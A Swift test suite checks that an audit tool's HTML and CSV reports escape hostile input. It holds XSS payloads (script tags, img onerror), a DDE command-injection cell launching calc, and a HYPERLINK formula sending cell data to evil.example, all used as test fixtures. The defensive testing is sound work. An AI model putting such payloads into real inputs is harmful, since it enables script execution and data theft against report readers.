import FairRecruitCore
import Foundation
import Testing
@testable import FairRecruitCLI
@testable import FairRecruitReports

private func shippedTemplates() throws -> ReportTemplates { try ReportTemplates.load(from: [root + "/Templates"]) }

private func html(_ report: AuditReport) throws -> String { HTMLReporter(templates: try shippedTemplates()).render(report) }

private func temporaryFolder(_ name: String) -> String {
    let path = FileManager.default.temporaryDirectory.appendingPathComponent("fairrecruit-\(name)-\(UUID().uuidString)").path
    try? FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
    return path
}

/// The hostile-input fixture audit: formulas in worker and record ids, markup in employers and answers.
private func hostileOutcome(formats: [AuditConfiguration.Format], output: String) throws -> AuditOutcome {
    _ = FileManager.default.changeCurrentDirectoryPath(root)
    let fixtures = "Tests/EndToEndTests/Fixtures"
    var config = AuditConfiguration(standards: ["\(fixtures)/e2e-standard.yaml"], asOf: Day(iso: "2026-06-30")!, output: output)
    config.fees = ["\(fixtures)/hostile-fees.csv"]
    config.assessments = ["\(fixtures)/hostile-answers.csv"]
    config.formats = formats
    return try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
}

/// The progress fixture audit (baseline and waivers) with `hostile-waivers.yaml`: markup and formulas in
/// waiver reasons, approvers and scopes.
private func hostileWaiversOutcome(formats: [AuditConfiguration.Format], output: String) throws -> AuditOutcome {
    _ = FileManager.default.changeCurrentDirectoryPath(root)
    let fixtures = "Tests/EndToEndTests/Fixtures"
    var config = AuditConfiguration(standards: ["\(fixtures)/e2e-standard.yaml"], asOf: Day(iso: "2026-06-30")!, output: output)
    config.fees = ["\(fixtures)/fees.csv"]
    config.assessments = ["\(fixtures)/answers-policy-yes.csv"]
    config.baseline = "\(fixtures)/baseline.json"
    config.waivers = "\(fixtures)/hostile-waivers.yaml"
    config.formats = formats
    return try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
}

/// Rows of a CSV file as the test reads them back (RFC 4180, as written by CSVReporter).
private func parseCSV(_ text: String) -> [[String]] {
    var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
    var scalars = text.unicodeScalars.makeIterator()
    var pending: Unicode.Scalar? = nil
    while let c = pending ?? scalars.next() {
        pending = nil
        if quoted {
            if c == "\"" {
                let next = scalars.next()
                if next == "\"" { field.unicodeScalars.append("\"") } else { quoted = false; pending = next }
            } else { field.unicodeScalars.append(c) }
        } else if c == "\"" { quoted = true
        } else if c == "," { row.append(field); field = ""
        } else if c == "\n" { row.append(field); rows.append(row); row = []; field = ""
        } else { field.unicodeScalars.append(c) }
    }
    return rows
}

@Suite(.serialized) struct HTMLReporterTests {
    @Test func htmlReportMatchesItsSnapshot() throws {
        try assertSnapshot(html(ReporterTests().fixtureReport()), named: "fixture-report.html")
    }

    /// Baseline and waivers: the progress section, change badges, fixed findings, action states, waivers.
    @Test func progressHTMLMatchesItsSnapshot() throws {
        let page = try html(ReporterTests().progressReport())
        try assertSnapshot(page, named: "progress-report.html")
        #expect(page.contains("<a href=\"#progress\">Progress</a>"))
        #expect(page.contains("<p>Compared with the audit of <strong class=\"nowrap\">2026-03-31</strong>.</p>"))
        #expect(page.contains("<span class=\"value tone change-down\">-3.3</span><span class=\"unit\">20.0 then, 16.7 now</span>"))
        #expect(page.contains("<span class=\"value\">11.1</span><span class=\"unit\">rating E; with waivers 16.7, rating E</span>"))
        for (count, change) in [(1, "new"), (1, "regressed"), (1, "unchanged"), (1, "fixed")] {
            #expect(page.contains("<span class=\"pill change change-\(change)\">\(count) \(change)</span>"))
        }
        #expect(page.contains("<span class=\"pill change change-regressed\">regressed</span> <span class=\"pill change waived\">waived</span> <code>e2e-zero-fee/receipts/1</code>"))
        #expect(page.contains("<p>Since the previous audit: 1 new, 0 regressed, 1 unchanged, 1 fixed worker(s).</p>"))
        #expect(page.contains("<td data-label=\"Finding\"><code>e2e-zero-fee/policy/1</code><br>A written policy</td>"))
        #expect(page.contains("<td data-label=\"Due\" class=\"nowrap\">2026-03-30 <span class=\"pill overdue\">overdue</span></td>"))
        #expect(page.contains("<td data-label=\"State\"><span class=\"state state-in_progress\">in progress</span></td>"))
        #expect(page.contains("<td data-label=\"Status\"><span class=\"pill waiver-expired\">expired</span></td>"))
        #expect(!page.contains("B-2"))   // another agency's waiver
    }

    /// Without a history, baseline or waivers the page has none of the progress fields, not even their style.
    @Test func aReportWithoutProgressHasNoProgressFields() throws {
        let page = try html(ReporterTests().fixtureReport())
        for absent in ["id=\"progress\"", "#progress", "change-", "overdue", "First detected", "waiver", "Fixed since"] {
            #expect(!page.contains(absent), "\(absent)")
        }
    }

    @Test func waiverTextIsEscaped() throws {
        var report = try ReporterTests().progressReport()
        let progress = try #require(report.result.progress)
        report.result.progress?.waivers[0].waiver.reason = "<script>alert(1)</script>"
        report.result.progress?.waivers[0].waiver.approver = "\"><img src=x onerror=alert(1)>"
        #expect(progress.waivers[0].status == .applied)
        let page = try html(report)
        #expect(!page.contains("<script"))
        #expect(!page.contains("<img"))
        #expect(page.contains("<td data-label=\"Reason\" class=\"id\">&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
        #expect(page.contains("<td data-label=\"Approver\" class=\"id\">&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td>"))
    }

    /// The same from a waivers file, with markup in a scope too, and a baseline whose rating is markup.
    @Test func hostileWaiversFromAFileAreShownAsText() throws {
        let out = temporaryFolder("hostile-waivers-html")
        _ = try hostileWaiversOutcome(formats: [.html], output: out)
        let page = try String(contentsOfFile: out + "/report.html", encoding: .utf8)
        #expect(!page.contains("<script"))
        #expect(!page.contains("<img"))
        #expect(!page.contains("<b>"))
        #expect(page.contains("<td data-label=\"Reason\" class=\"id\">&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
        #expect(page.contains("<td data-label=\"Approver\" class=\"id\">&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td>"))
        #expect(page.contains("<td data-label=\"Scope\" class=\"id\">workers =cmd|&#39; /C calc&#39;!A0, &lt;b&gt;W1&lt;/b&gt;</td>"))

        var report = try ReporterTests().progressReport()
        report.result.progress?.previous?.rating = "\"><script>alert(1)</script>"
        let rated = try html(report)
        #expect(!rated.contains("<script"))
        #expect(rated.contains("<span class=\"value\">&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; → E</span>"))
    }

    @Test func inputDerivedTextIsEscapedInTextAndAttributes() throws {
        var report = try ReporterTests().fixtureReport()
        report.agencyName = "<script>alert(1)</script>"
        let policy = try #require(report.answers.firstIndex { $0.questionID == "E2E-POLICY" })
        report.answers[policy].comment = "\"><img src=x onerror=alert(1)>"
        report.answers[policy].evidence = "' onmouseover='alert(1)"
        let page = try html(report)
        #expect(!page.contains("<script"))
        #expect(!page.contains("<img"))
        #expect(!page.contains("' onmouseover"))
        #expect(page.contains("<title>FairRecruit audit: A-1 — &lt;script&gt;alert(1)&lt;/script&gt;</title>"))
        #expect(page.contains("<span class=\"agency-name\">&lt;script&gt;alert(1)&lt;/script&gt;</span>"))
        #expect(page.contains("Comment: “&quot;&gt;&lt;img src=x onerror=alert(1)&gt;”"))
        #expect(page.contains("Evidence given: &#39; onmouseover=&#39;alert(1)"))
    }

    @Test func hostileInputsFromFilesAreShownAsText() throws {
        let out = temporaryFolder("hostile-html")
        _ = try hostileOutcome(formats: [.html], output: out)
        let page = try String(contentsOfFile: out + "/report.html", encoding: .utf8)
        #expect(!page.contains("<script"))
        #expect(!page.contains("<img"))
        #expect(page.contains("<td data-label=\"Employer\">&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
        #expect(page.contains("<td data-label=\"Employer\">&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td>"))
    }

    /// Self-contained: nothing the browser would fetch, so the page works offline and leaks nothing.
    @Test func theReportRequestsNothingFromTheNetwork() throws {
        let page = try html(ReporterTests().fixtureReport())
        let patterns = [
            #"(src|href|action|poster|data)\s*=\s*["']?\s*(https?:)?//"#,   // a network URL in an attribute
            #"<script"#, #"<link[^>]*stylesheet"#, #"@import"#, #"url\("#, #"<iframe"#, #"<object"#, #"<embed"#,
        ]
        for pattern in patterns {
            #expect(page.range(of: pattern, options: [.regularExpression, .caseInsensitive]) == nil, "\(pattern)")
        }
        #expect(!page.contains("http://") && !page.contains("https://"))
        #expect(page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'"))
    }

    @Test func shippedTemplatesNeverUseUnescapedTags() throws {
        let folder = root + "/Templates"
        let files = try FileManager.default.contentsOfDirectory(atPath: folder).filter { $0.hasSuffix(".mustache") }
        #expect(files.contains("report.html.mustache"))
        for file in files {
            let text = try String(contentsOfFile: folder + "/" + file, encoding: .utf8)
            #expect(!text.contains("{{{") && !text.contains("{{&") && !text.contains("{{%"), "\(file)")
        }
    }

    @Test func aCustomTemplateReplacesTheShippedOneAndKeepsItsPartials() throws {
        let templates = temporaryFolder("templates")
        try "<h1>{{agency.id}}: {{summary.rating}} ({{summary.score}})</h1>{{#findings}}<p>{{id}}</p>{{/findings}}<style>{{> style.css}}</style>\n"
            .write(toFile: templates + "/report.html.mustache", atomically: true, encoding: .utf8)
        _ = FileManager.default.changeCurrentDirectoryPath(root)
        let out = temporaryFolder("custom-html")
        var config = AuditConfiguration(standards: ["Tests/EndToEndTests/Fixtures/e2e-standard.yaml"], asOf: Day(iso: "2026-06-30")!, output: out)
        config.fees = ["Tests/EndToEndTests/Fixtures/fees.csv"]
        config.formats = [.html]
        config.templates = templates
        let outcome = try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
        #expect(outcome.written == [out + "/report.html"])
        let page = try String(contentsOfFile: out + "/report.html", encoding: .utf8)
        #expect(page.hasPrefix("<h1>A-1: E (0.0)</h1><p>e2e-zero-fee/no-fees/1</p><p>e2e-zero-fee/receipts/1</p><style>"))
        #expect(page.contains("@page { size: A4"))   // the shipped style.css partial
    }

    @Test func aBrokenTemplateIsBadDataWithItsLocation() throws {
        let templates = temporaryFolder("broken-templates")
        try "<h1>{{agency.id}}</h1>\n{{#findings}}<p>{{id}}</p>\n".write(toFile: templates + "/report.html.mustache", atomically: true, encoding: .utf8)
        _ = FileManager.default.changeCurrentDirectoryPath(root)
        var config = AuditConfiguration(standards: ["Tests/EndToEndTests/Fixtures/e2e-standard.yaml"], asOf: Day(iso: "2026-06-30")!,
                                        output: temporaryFolder("broken-out"))
        config.fees = ["Tests/EndToEndTests/Fixtures/fees.csv"]
        config.formats = [.html]
        config.templates = templates
        do {
            _ = try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
            Issue.record("a broken template was accepted")
        } catch {
            #expect(error.status == .badData)
            #expect(error.messages.first?.hasPrefix(templates + "/report.html.mustache:3:1: error: a section is not closed") == true,
                    "\(error.messages)")
        }
        #expect(throws: TemplateError.unreadable(path: templates + "/missing")) {
            try ReportTemplates.load(from: [templates + "/missing"])
        }
    }

    @Test func chartsAreComputedInWholeUnits() {
        let chart = ReportView.statusChart([.met, .met, .notMet, .notApplicable])
        #expect(chart.bars.map(\.count) == [2, 0, 1, 0, 1])
        #expect(chart.bars.map(\.barWidth) == [280, 0, 140, 0, 140])
        let histogram = ReportView.histogram([.zero, ExactDecimal(scaled: 500_000), ExactDecimal(scaled: 500_001), ExactDecimal(7)])
        #expect(histogram.bins.map(\.count) == [1, 1, 1, 0, 0, 0, 1])
        #expect(histogram.bins.map(\.height) == [150, 150, 150, 0, 0, 0, 150])
    }
}

@Suite(.serialized) struct CSVReporterTests {
    @Test func csvExportsMatchTheirSnapshots() throws {
        let files = CSVReporter().files(for: try ReporterTests().fixtureReport())
        #expect(files.map(\.name) == ["findings.csv", "actions.csv", "reimbursements.csv", "rejections.csv", "waivers.csv"])
        for file in files { try assertSnapshot(file.contents, named: "fixture-" + file.name) }
        // Without progress, the progress columns are there (fixed columns) and empty.
        for (index, columns) in [(0, ["change", "waived"]), (1, ["state", "overdue", "first_detected", "waived"])] {
            let rows = parseCSV(files[index].contents)
            #expect(Array(rows[0].suffix(columns.count)) == columns)
            #expect(rows.dropFirst().allSatisfy { $0.count == rows[0].count && $0.suffix(columns.count).allSatisfy(\.isEmpty) })
        }
        #expect(parseCSV(files[4].contents) == [CSVReporter.columns[4].columns])
    }

    @Test func progressCSVExportsMatchTheirSnapshots() throws {
        let report = try ReporterTests().progressReport()
        let files = CSVReporter().files(for: report)
        // reimbursements.csv and rejections.csv have no progress columns: the fixture's snapshots cover them.
        for file in files where ["findings.csv", "actions.csv", "waivers.csv"].contains(file.name) {
            try assertSnapshot(file.contents, named: "progress-" + file.name)
        }
        let findings = parseCSV(files[0].contents)
        let column = { (name: String) in findings[0].firstIndex(of: name)! }
        var changes: [String: Set<String>] = [:]
        for row in findings.dropFirst() { changes[row[column("finding_id")], default: []].insert(row[column("change")] + "/" + row[column("waived")]) }
        #expect(changes == ["e2e-zero-fee/no-fees/1": ["unchanged/no"], "e2e-zero-fee/no-fees/2": ["new/no"],
                            "e2e-zero-fee/receipts/1": ["regressed/yes"], "e2e-zero-fee/policy/1": ["fixed/no"]])
        #expect(findings.last?[column("status")] == "met")   // the fixed finding, with its check's status now
        let actions = parseCSV(files[1].contents)
        let noFees = try #require(actions.first { $0[1] == "e2e-zero-fee/no-fees" })
        #expect(Array(noFees.suffix(4)) == ["in_progress", "yes", "2026-02-28", "no"])
        let receipts = try #require(actions.first { $0[1] == "e2e-zero-fee/receipts" })
        #expect(Array(receipts.suffix(4)) == ["open", "no", "2026-06-30", "yes"])
        let waivers = parseCSV(files[4].contents)
        #expect(waivers.dropFirst().map { [$0[2], $0[6], $0[7]] } == [["receipts", "applied", "yes"], ["policy", "expired", "no"]])
    }

    @Test func waiverTextInCSVIsNeutralisedAndQuoted() throws {
        let out = temporaryFolder("hostile-waivers-csv")
        _ = try hostileWaiversOutcome(formats: [.csv], output: out)
        let rows = parseCSV(try String(contentsOfFile: out + "/waivers.csv", encoding: .utf8))
        #expect(rows[0] == CSVReporter.columns[4].columns)
        let column = { (name: String) in rows[0].firstIndex(of: name)! }
        #expect(rows.count == 4 && rows.dropFirst().allSatisfy { $0.count == rows[0].count })
        #expect(rows[1][column("reason")] == "<script>alert(1)</script>")
        #expect(rows[1][column("approver")] == "\"><img src=x onerror=alert(1)>")
        #expect(rows[2][column("reason")] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")
        #expect(rows[2][column("approver")] == "'@SUM(1+1)")
        #expect(rows[2][column("scope_workers")] == "'=cmd|' /C calc'!A0 <b>W1</b>")
        #expect(rows[2][column("status")] == "applied" && rows[2][column("applied")] == "yes")
        #expect(rows[3][column("reason")] == "'-2+3" && rows[3][column("approver")] == "'+1")
        #expect(rows[3][column("expires")] == "2026-01-01" && rows[3][column("status")] == "expired")
    }

    @Test func textCellsThatStartAFormulaAreNeutralised() {
        for start in ["=", "+", "-", "@", "\t", "\r"] {
            #expect(CSVReporter.neutralised(start + "1+1") == "'" + start + "1+1")
        }
        #expect(CSVReporter.field(.text("=HYPERLINK(\"http://x\")")) == "\"'=HYPERLINK(\"\"http://x\"\")\"")
        #expect(CSVReporter.field(.text("\r\n=1")) == "\"'\r\n=1\"")    // "\r\n" is one Character: checked by scalar
        #expect(CSVReporter.field(.text("a=1")) == "a=1")
        #expect(CSVReporter.field(.text("")) == "")
        // Numbers we wrote stay numbers, even negative ones.
        #expect(CSVReporter.field(.number("-12.5")) == "-12.5")
        #expect(CSVReporter.field(.int(3)) == "3")
    }

    @Test func fieldsAreQuotedAsRFC4180Says() {
        #expect(CSVReporter.field(.text("\"")) == "\"\"\"\"")   // a field holding only a quote
        #expect(CSVReporter.field(.text("a,b")) == "\"a,b\"")
        #expect(CSVReporter.field(.text("line\nbreak")) == "\"line\nbreak\"")
        #expect(CSVReporter.field(.text("say \"hi\"")) == "\"say \"\"hi\"\"\"")
    }

    @Test func hostileInputsStayTextAndNumbersStayNumbers() throws {
        let out = temporaryFolder("hostile-csv")
        _ = try hostileOutcome(formats: [.csv], output: out)
        let rows = parseCSV(try String(contentsOfFile: out + "/reimbursements.csv", encoding: .utf8))
        #expect(rows[0] == CSVReporter.columns[2].columns)
        let column = { (name: String) in rows[0].firstIndex(of: name)! }
        #expect(rows[1][column("worker_id")] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")
        #expect(rows[1][column("record_id")] == "'-R1")
        #expect(rows[2][column("worker_id")] == "'+W2")
        #expect(rows[2][column("record_id")] == "'@R2")
        #expect(rows[1][column("amount_owed")] == "500" && rows[2][column("record_line")] == "3")
        let findings = parseCSV(try String(contentsOfFile: out + "/findings.csv", encoding: .utf8))
        #expect(findings.dropFirst().allSatisfy { $0.count == CSVReporter.columns[0].columns.count })
        let rejections = parseCSV(try String(contentsOfFile: out + "/rejections.csv", encoding: .utf8))
        #expect(rejections.count == 2 && rejections[1][2] == "4")
    }

    @Test func findingsListEveryEvidenceLocationAndRejectionsAreAllListed() throws {
        var report = try ReporterTests().fixtureReport()
        let many = (1...(AuditReport.maxEvidence + 5)).map { SourceLocation(file: "fees.csv", line: $0 + 1) }
        report.result.findings[0].evidence = many
        report.inputs[0].rejections = (1...(AuditReport.maxRejections + 7)).map { (line: $0 + 1, reason: "bad row") }
        let files = CSVReporter().files(for: report)
        let findings = parseCSV(files[0].contents).dropFirst().filter { $0[1] == report.result.findings[0].id }
        #expect(findings.map { $0[16] } == many.map { String($0.line) })
        let rejections = parseCSV(files[3].contents).dropFirst()
        #expect(rejections.count == AuditReport.maxRejections + 7 + report.inputs.dropFirst().map(\.rejections.count).reduce(0, +))
    }

    @Test func reimbursementsSumToTheReportTotals() throws {
        let report = try ReporterTests().fixtureReport()
        let rows = parseCSV(CSVReporter().files(for: report)[2].contents)
        let owed = rows[0].firstIndex(of: "amount_owed")!, currency = rows[0].firstIndex(of: "currency")!
        var totals: [String: ExactDecimal] = [:]
        for row in rows.dropFirst() { totals[row[currency], default: .zero] += ExactDecimal(parsing: row[owed])! }
        #expect(totals.sorted { $0.key < $1.key }.map { "\($0.value) \($0.key)" } == report.result.reimbursementsDue.map { "\($0.amount) \($0.currency)" })
    }
}
